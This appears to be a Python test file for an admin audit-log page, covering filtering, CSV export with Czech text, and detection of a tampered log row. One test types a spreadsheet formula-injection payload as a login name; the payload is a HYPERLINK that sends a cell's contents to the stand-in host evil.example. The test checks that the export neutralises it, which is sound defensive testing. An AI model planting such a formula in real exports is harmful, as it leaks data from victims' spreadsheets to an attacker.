"""The audit log page: filter, export, integrity (SEC-03)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import text


@pytest.mark.req("SEC-03")
def test_audit_page_filters_by_action_and_actor(admin_client):
    admin_client.post(
        "/admin/pause_code/new",
        {"code": "LEKAR", "name": "Lékař", "kind": "private", "max_duration_min": "90", "active": "on"},
    )
    page = admin_client.get("/admin/audit/?action=pause_code.create&actor=admin").get_data(as_text=True)
    assert "pause_code.create" in page and "Lékař" in page
    assert "queue.create" not in page


@pytest.mark.req("SEC-03")
def test_audit_export_is_csv_with_czech_text(admin_client):
    response = admin_client.get("/admin/audit/export.csv?action=queue.")
    assert response.mimetype == "text/csv"
    text_body = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text_body), delimiter=";"))
    assert rows[0][:4] == ["seq", "time_utc", "time_local", "actor"]
    assert any("Obecná linka" in r[9] for r in rows[1:])
    assert all(r[5].startswith("queue.") for r in rows[1:])


@pytest.mark.req("SEC-03")
def test_bad_date_in_filter_is_reported_not_fatal(admin_client):
    response = admin_client.get("/admin/audit/?since=24.12.2026")
    assert response.status_code == 200
    assert "není datum" in response.get_data(as_text=True)


@pytest.mark.req("SEC-03")
def test_verify_reports_an_intact_log_and_then_a_tampered_row(admin_client, container):
    page = admin_client.post("/admin/audit/verify", follow_redirects=True).get_data(as_text=True)
    assert "neporušený" in page
    engine = container.database().engine
    with engine.begin() as connection:
        connection.execute(text("UPDATE audit_log SET actor = 'mallory' WHERE seq = 3"))
    page = admin_client.post("/admin/audit/verify", follow_redirects=True).get_data(as_text=True)
    assert "byl pozměněn" in page and "záznamu 3" in page


PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A2,"Klikni")'


@pytest.mark.req("SEC-03", "REP-05")
def test_audit_export_never_writes_a_formula(client):
    """A name typed at the sign-in form lands in the audit log; in the export it is text."""
    client.login(PAYLOAD, "wrong")
    assert client.login("admin").status_code == 302
    response = client.get("/admin/audit/export.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + PAYLOAD in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
